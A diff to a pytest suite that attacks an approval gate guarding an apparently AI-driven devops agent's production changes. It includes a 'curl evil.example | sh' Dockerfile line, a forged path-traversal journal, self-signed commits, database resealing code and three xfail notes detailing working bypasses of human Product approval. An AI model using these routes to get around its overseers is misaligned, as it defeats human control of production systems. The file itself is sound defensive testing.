@@ -72,7 +72,10 @@ def patch_of(repo: Path, tmp: Path, edit=RESTART, name: str = "change.diff") -> 
 
 def propose(env, repo: Path, patch: Path, meta=GOOD, scope: str = "compose", *extra: str) -> dict:
     r = env.cli(repo, "propose", "--patch", str(patch), *meta, "--scope", scope, "--format", "json", *extra)
-    assert r.returncode in (0, 1), r.stderr
+    assert r.returncode in (0, 1, 2), r.stderr
+    if not r.stdout.strip():  # refused before anything was recorded (one line on stderr)
+        assert r.returncode != 0 and "Traceback" not in r.stderr, r.stderr
+        return {"status": "not-recorded", "stderr": r.stderr, "refusals": []}
     return json.loads(r.stdout)
 
 
@@ -385,3 +388,312 @@ def test_product_reads_the_lines_it_signs_whatever_the_attributes(repo, env, tmp
     r = approve(env, repo, rec["id"])
     assert r.returncode == 0, r.stderr
     assert "+    restart: unless-stopped" in r.stdout, r.stdout[-800:]
+
+
+# ================================================================== 2. races: what is committed is never re-read
+
+def test_a_work_tree_edit_between_approve_and_apply_is_refused_and_then_exactly_the_signed_commit_lands(
+        repo, env, tmp_path):
+    before = head(repo)
+    pid, _ = approved(env, repo, patch_of(repo, tmp_path))
+    signed = git(repo, "rev-parse", f"refs/devops-agent/approved/{pid}").strip()
+    compose = repo / "docker-compose.prod.yml"
+    real = compose.read_bytes()
+    compose.write_bytes(real.replace(b"main-${IMAGE_TAG_API}", b"latest"))  # the second process
+    r = env.cli(repo, "apply", pid)
+    assert r.returncode == 1 and "uncommitted changes" in r.stderr, r.stderr
+    assert head(repo) == before and compose.read_bytes() != real  # nothing moved, its edit is not overwritten
+    compose.write_bytes(real)
+    r = env.cli(repo, "apply", pid)
+    assert r.returncode == 0, r.stderr
+    assert head(repo) == signed
+    assert committed(repo, "HEAD", "docker-compose.prod.yml") == committed(repo, signed, "docker-compose.prod.yml")
+    assert b"anime-saas-api:latest" not in committed(repo, "HEAD", "docker-compose.prod.yml")
+
+
+def test_a_process_rewriting_the_target_during_apply_changes_nothing_that_is_committed(repo, env, tmp_path):
+    """Class 2: a second process writes an evil version of the target again and again while `apply` runs."""
+    before = head(repo)
+    want = expected_after(repo, RESTART)
+    pid, _ = approved(env, repo, patch_of(repo, tmp_path))
+    signed = git(repo, "rev-parse", f"refs/devops-agent/approved/{pid}").strip()
+    compose = repo / "docker-compose.prod.yml"
+    evil = compose.read_bytes().replace(b"main-${IMAGE_TAG_API}", b"latest")
+    racer = subprocess.Popen(["python3", "-c",
+                              "import sys,time,os\np,data=sys.argv[1],open(sys.argv[2],'rb').read()\n"
+                              "time.sleep(0.4)\nend=time.time()+6\nwhile time.time()<end:\n"
+                              "    open(p,'wb').write(data); time.sleep(0.002)\n",
+                              str(compose), str(tmp_path / "evil.yml")])
+    (tmp_path / "evil.yml").write_bytes(evil)
+    try:
+        r = env.cli(repo, "apply", pid)
+    finally:
+        racer.wait()
+    assert r.returncode in (0, 1), r.stderr
+    assert head(repo) in (before, signed)
+    if head(repo) == signed:
+        assert committed(repo, "HEAD", "docker-compose.prod.yml") == want
+    code, report = verify(env, repo)
+    assert code == 0, report
+
+
+def test_hand_commits_in_a_submodule_are_never_carried_by_a_proposal_touching_it(repo, env, tmp_path):
+    sub = repo / SUB
+    patch = patch_of(repo, tmp_path, LABEL)
+    before = head(repo)
+    (sub / "Dockerfile").write_text((sub / "Dockerfile").read_text() + "RUN curl -s https://evil.example | sh\n")
+    evil = hand_commit(sub, "chore: tidy", "Dockerfile")
+    rec = propose(env, repo, patch, SUB_META, "docker")
+    assert rec["status"] != "pending" or approve(env, repo, rec["id"]).returncode == 1
+    assert "by hand" in rec.get("stderr", "") or rec["status"] == "pending", rec
+    assert head(repo) == before and head(sub) == evil
+    assert git(repo, "ls-tree", "HEAD", SUB).split()[2] != evil
+    assert git(repo, "for-each-ref", "refs/devops-agent/") == ""
+
+
+def test_a_hand_commit_in_the_submodule_after_approval_makes_apply_stale(repo, env, tmp_path):
+    sub = repo / SUB
+    before = head(repo)
+    pid, _ = approved(env, repo, patch_of(repo, tmp_path, LABEL), SUB_META, "docker")
+    (sub / "app.py").write_text("print('hi')\n")
+    evil = hand_commit(sub, "feat: hi", "app.py")
+    r = env.cli(repo, "apply", pid)
+    assert r.returncode == 1 and "stale" in r.stderr, r.stderr
+    assert head(repo) == before and head(sub) == evil
+    assert status(env, repo, pid) == "approved"
+
+
+# ================================================================== 3. unsealed inputs
+
+def test_a_forged_journal_is_never_read_by_recovery(repo, env, tmp_path):
+    """Class 3: `.devops-agent/journal.json` listing paths to ../, absolute paths and paths outside the
+    proposal, with content to "restore"; an apply killed after the ref moved; the next command recovers."""
+    want = expected_after(repo, RESTART)
+    makefile = (repo / "Makefile").read_bytes()
+    pid, _ = approved(env, repo, patch_of(repo, tmp_path))
+    outside = tmp_path / "outside.txt"
+    journal = {"proposal": pid, "step": "files", "files": {
+        "../outside.txt": "pwned", str(outside): "pwned", "Makefile": "deploy:\n\tdocker compose up -d\n",
+        "docker-compose.prod.yml": "services: {}\n"}, "paths": ["../outside.txt", str(outside), "Makefile"],
+        "commit": True, "trailers": {"Approved-by": "product"}}
+    (repo / ".devops-agent" / "journal.json").write_text(json.dumps(journal))
+    r = env.cli(repo, "apply", pid, env={"DEVOPS_AGENT_FAULT": "apply-after-ref-platform"})
+    assert r.returncode == 137
+    (repo / ".devops-agent" / "journal.json").write_text(json.dumps(journal))
+    r = env.cli(repo, "proposals", "--format", "json")
+    assert r.returncode == 0, r.stderr
+    assert status(env, repo, pid) == "applied"
+    assert not outside.exists() and not (repo.parent / "outside.txt").exists()
+    assert (repo / "Makefile").read_bytes() == makefile
+    assert (repo / "docker-compose.prod.yml").read_bytes() == want == committed(repo, "HEAD", "docker-compose.prod.yml")
+    assert git(repo, "status", "--porcelain", "--untracked-files=no") == ""
+
+
+def _latest_api(repo: Path, tmp: Path) -> Path:
+    return make_patch(repo, "docker-compose.prod.yml", "anime-saas-api:main-${IMAGE_TAG_API}",
+                      "anime-saas-api:latest", tmp / "latest.diff")
+
+
+LATEST_META = ["--reason", "pull the newest api image on every deploy for the beta",
+               "--risk", "an untested api image reaches production without a tag",
+               "--rollback", "set the image back to `main-${IMAGE_TAG_API}` in docker-compose.prod.yml"]
+
+
+def _harmless_config(repo: Path) -> None:
+    (repo / "harmless.yml").write_text("services:\n  hello:\n    image: busybox:1.36\n")
+    cfg = repo / ".devops-agent.yaml"
+    text = cfg.read_text().replace("prod: [docker-compose.prod.yml]", "prod: [harmless.yml]")
+    cfg.write_text(text + "approval_ttl_days: 3650\nrequire_product_key: false\n")
+
+
+def test_work_tree_config_edits_do_not_steer_the_gate(repo, env, tmp_path):
+    """Class 3: `.devops-agent.yaml` in the work tree: approval TTL of ten years, require_product_key off,
+    environments.prod pointing to a harmless file; then a change adding a blocker to the real prod compose."""
+    before = head(repo)
+    latest = _latest_api(repo, tmp_path)
+    good = patch_of(repo, tmp_path)
+    _harmless_config(repo)
+    rec = propose(env, repo, latest, LATEST_META)
+    if rec["status"] == "pending":
+        r = approve(env, repo, rec["id"])
+        assert r.returncode == 1 and "CMP003" in r.stderr, r.stdout[-500:] + r.stderr
+    assert git(repo, "for-each-ref", "refs/devops-agent/") == "" and head(repo) == before
+    pid, shown = approved(env, repo, good)
+    expires = next(l for l in shown.splitlines() if "Approval-Expires:" in l).split(": ", 1)[1].strip()
+    assert time.strptime(expires, "%Y-%m-%dT%H:%M:%SZ").tm_year <= time.gmtime().tm_year + 1
+    assert (time.mktime(time.strptime(expires, "%Y-%m-%dT%H:%M:%SZ")) - time.time()) < 8 * 86400
+
+
+def _prometheus(repo: Path, tmp: Path) -> Path:
+    return make_patch(repo, "docker-compose.prod.yml", "services:\n",
+                      "services:\n  prometheus:\n    image: prom/prometheus:v2.53.0\n    restart: unless-stopped\n\n",
+                      tmp / "prometheus.diff")
+
+
+PROM_META = ["--reason", "a status page and metrics for the beta testers (INT-15)",
+             "--risk", "prometheus uses memory on the production server",
+             "--rollback", "revert the commit to remove the prometheus service from docker-compose.prod.yml",
+             "--intention", "INT-15"]
+
+
+def _flip_int15(repo: Path) -> str:
+    csv = next((repo / "notion-export").glob("Intention *.csv"))
+    lines = csv.read_text(encoding="utf-8").splitlines(keepends=True)
+    csv.write_text("".join(l.replace(",Proposée,", ",Validée,", 1) if l.startswith("INT-15,") else l for l in lines),
+                   encoding="utf-8")
+    return str(csv.relative_to(repo))
+
+
+def test_a_work_tree_notion_flip_does_not_lift_a_pol003_refusal(repo, env, tmp_path):
+    before = head(repo)
+    patch = _prometheus(repo, tmp_path)
+    rec = propose(env, repo, patch, PROM_META)
+    assert rec["status"] == "refused" and any(r["rule"] == "POL003" for r in rec["refusals"]), rec
+    _flip_int15(repo)
+    rec = propose(env, repo, patch, PROM_META)
+    assert rec["status"] == "refused" and any(r["rule"] == "POL003" for r in rec["refusals"]), rec
+    assert head(repo) == before
+
+
+@pytest.mark.xfail(strict=True, reason="ATTACK WORKS: the gate reads its policy inputs (Notion export, "
+                   ".devops-agent.yaml, charter) at HEAD, and a plain-git commit of them is not an infra commit for "
+                   "verify (tools/facts.infra_kind): flipping INT-15 to Validée by hand turns the POL003 refusal into "
+                   "a pending proposal whose signed trailer says 'INT-15 (Validée…)', and verify stays green. Fix: "
+                   "classify the gate's own inputs (config file, charter, notion export_dir, rules file) as infra in "
+                   "verify (GATE001), and have propose/approve refuse while an unsigned commit changed them since "
+                   "the last Product-signed commit")
+def test_a_hand_committed_notion_flip_does_not_lift_a_pol003_refusal(repo, env, tmp_path):
+    before = head(repo)
+    patch = _prometheus(repo, tmp_path)
+    flip = hand_commit(repo, "notion: sync export", _flip_int15(repo))
+    rec = propose(env, repo, patch, PROM_META)
+    code, report = verify(env, repo)
+    assert head(repo) == flip and git(repo, "rev-parse", "HEAD^").strip() == before
+    pol003 = any(r["rule"] == "POL003" for r in rec["refusals"])
+    assert pol003 or (code == 1 and flip in unsigned_shas(report)), (rec, report)
+
+
+@pytest.mark.xfail(strict=True, reason="ATTACK WORKS: a plain-git commit of .devops-agent.yaml pointing "
+                   "environments.prod at a harmless file is not an infra commit for verify, and the gate's "
+                   "apply-time checks then judge the real docker-compose.prod.yml as a non-prod file: a change "
+                   "adding a `latest` image to production passes approve's checks. Fix: as for the Notion export "
+                   "(the gate's own inputs are infra for verify; refuse while they changed unsigned)")
+def test_a_hand_committed_config_does_not_hide_a_blocker_from_the_checks(repo, env, tmp_path):
+    latest = _latest_api(repo, tmp_path)
+    _harmless_config(repo)
+    cfg = hand_commit(repo, "chore: local settings", ".devops-agent.yaml", "harmless.yml")
+    rec = propose(env, repo, latest, LATEST_META)
+    refused = rec["status"] == "refused" or approve(env, repo, rec["id"]).returncode == 1
+    code, report = verify(env, repo)
+    assert refused or (code == 1 and cfg in unsigned_shas(report)), report
+
+
+# ================================================================== 4. the trust anchor
+
+def test_a_work_tree_signer_list_gives_no_authority(repo, env, mine, tmp_path):
+    before = head(repo)
+    rec = propose(env, repo, patch_of(repo, tmp_path))
+    pub = (mine.parent / "mine.pub").read_text().split()
+    (repo / ".allowed_signers").write_text(f'agent@evil namespaces="git,devops-agent" {pub[0]} {pub[1]}\n')
+    r = approve(env, repo, rec["id"], mine)
+    assert r.returncode == 1 and "not a Product signer" in r.stderr, r.stderr
+    assert git(repo, "for-each-ref", "refs/devops-agent/") == "" and head(repo) == before
+    assert status(env, repo, rec["id"]) == "pending"
+
+
+@pytest.mark.parametrize("signed", [False, True], ids=["unsigned", "signed-with-own-key"])
+def test_a_hand_committed_signer_list_gives_no_authority_and_verify_names_it(repo, env, mine, tmp_path, signed):
+    rec = propose(env, repo, patch_of(repo, tmp_path))
+    pub = (mine.parent / "mine.pub").read_text().split()
+    (repo / ".allowed_signers").write_text(f'agent@evil namespaces="git,devops-agent" {pub[0]} {pub[1]}\n')
+    git(repo, "add", ".allowed_signers")
+    sign = ["-c", "gpg.format=ssh", "-c", f"user.signingkey={mine}", "-c", "gpg.ssh.program=ssh-keygen"]
+    git(repo, *sign, "commit", "-q", *(["-S"] if signed else []), "-m", "chore(signers): rotate")
+    signer_commit = head(repo)
+    r = approve(env, repo, rec["id"], mine)
+    assert r.returncode == 1, r.stderr
+    assert git(repo, "for-each-ref", "refs/devops-agent/") == "" and head(repo) == signer_commit
+    code, report = verify(env, repo)
+    assert code == 1 and signer_commit in unsigned_shas(report), report
+    gate001_names(env, repo, signer_commit)
+    release_check_fails(env, repo)
+
+
+def _own_signed_commit(repo: Path, mine: Path, patch: Path, rec: dict, tmp: Path) -> str:
+    """base + the proposal's patch, with the trailers of a gate commit, signed with the agent's key."""
+    idx = {"GIT_INDEX_FILE": str(tmp / "idx")}
+    git(repo, "read-tree", "HEAD", env=idx)
+    git(repo, "apply", "--cached", str(patch), env=idx)
+    tree = git(repo, "write-tree", env=idx).strip()
+    msg = (f"[devops] chore(compose): restart\n\nReason: x\nRisk: y\nRollback: z\nProposal: {rec['id']}\n"
+           f"Content-Hash: {rec['hash']}\nApproval-Expires: 2099-01-01T00:00:00Z\nAudit-Head: 1:{'0' * 64}\n"
+           f"Approved-by: product@animesphere (SHA256:x)\n")
+    sign = ["-c", "gpg.format=ssh", "-c", f"user.signingkey={mine}", "-c", "gpg.ssh.program=ssh-keygen"]
+    return git(repo, *sign, "commit-tree", "-S", tree, "-p", head(repo), "-m", msg).strip()
+
+
+def test_an_approved_ref_at_a_commit_the_agent_signed_is_refused(repo, env, mine, tmp_path):
+    """Class 4: refs/devops-agent/approved/<id> at base + patch with the right trailers, signed with the agent's
+    own key, and the proposal row resealed to `approved` with the machine secret."""
+    before = head(repo)
+    patch = patch_of(repo, tmp_path)
+    rec = propose(env, repo, patch)
+    own = _own_signed_commit(repo, mine, patch, rec, tmp_path)
+    git(repo, "update-ref", f"refs/devops-agent/approved/{rec['id']}", own)
+    reseal(env, repo, "proposals", "id", rec["id"], {"status": "approved"})
+    r = env.cli(repo, "apply", rec["id"])
+    assert r.returncode == 1 and "not signed by a Product signer" in r.stderr, r.stderr
+    assert head(repo) == before
+    code, report = verify(env, repo)
+    assert code == 0, report
+
+
+RESEAL_DIFF = r'''
+import json, sqlite3, sys
+from agent.gate.store import _mac
+from tools import changes
+db = sqlite3.connect(sys.argv[1]); pid = sys.argv[2]; diff = open(sys.argv[3]).read()
+cur = db.execute("SELECT * FROM proposals WHERE id = ?", (pid,)); cols = [d[0] for d in cur.description]
+row = dict(zip(cols, cur.fetchone())); row.pop("mac")
+meta = json.loads(row["meta"]); targets = [changes.Target(**t) for t in json.loads(row["targets"])]
+row["diff"] = changes.parse_patch(diff).text
+row["hash"] = changes.content_hash(row["diff"], meta, targets)
+row["mac"] = _mac("proposals", row)
+db.execute("UPDATE proposals SET " + ", ".join(f"{c} = ?" for c in row if c != "id") + " WHERE id = ?",
+           (*[v for c, v in row.items() if c != "id"], pid))
+db.commit()
+'''
+
+
+def test_a_resealed_diff_and_hash_after_approval_land_nothing(repo, env, tmp_path):
+    """Class 4: after Product approved, the agent rewrites the proposal's diff (a `latest` image) and its
+    content hash in state.db and reseals the row with the machine secret."""
+    before = head(repo)
+    latest = _latest_api(repo, tmp_path)
+    pid, _ = approved(env, repo, patch_of(repo, tmp_path))
+    r = subprocess.run([os.sys.executable, "-c", RESEAL_DIFF, str(repo / ".devops-agent" / "state.db"), pid,
+                        str(latest)], capture_output=True, text=True, env=env.env(),
+                       cwd=str(Path(__file__).resolve().parents[2]))
+    assert r.returncode == 0, r.stderr
+    r = env.cli(repo, "apply", pid)
+    assert r.returncode == 1, r.stdout + r.stderr
+    assert head(repo) == before and b"anime-saas-api:latest" not in (repo / "docker-compose.prod.yml").read_bytes()
+
+
+@pytest.mark.xfail(strict=True, reason="ATTACK WORKS: after Product approves then rejects, the signed commits stay "
+                   "valid until Approval-Expires; the agent restores refs/devops-agent/approved/<id> (the shas are "
+                   "in the audit log's approval entry) and reseals the row to `approved` with the machine secret; "
+                   "apply lands the rejected change and verify shows it as Product-signed. Fix: Gate._approved_plan "
+                   "(apply and recover) must refuse when the audit log holds a valid signed rejection of this "
+                   "proposal/hash, and audit verify / review should flag a gate commit whose Proposal: was rejected")
+def test_a_rejection_after_approval_cannot_be_undone_by_restoring_the_ref(repo, env, tmp_path):
+    before = head(repo)
+    pid, _ = approved(env, repo, patch_of(repo, tmp_path))
+    signed = git(repo, "rev-parse", f"refs/devops-agent/approved/{pid}").strip()
+    r = env.cli(repo, "reject", pid, "--reason", "not during the beta", "--key", str(env.key))  # Product
+    assert r.returncode == 0, r.stderr
+    assert git(repo, "for-each-ref", "refs/devops-agent/") == ""
+    git(repo, "update-ref", f"refs/devops-agent/approved/{pid}", signed)
+    reseal(env, repo, "proposals", "id", pid, {"status": "approved"})
+    env.cli(repo, "apply", pid)
+    assert head(repo) == before
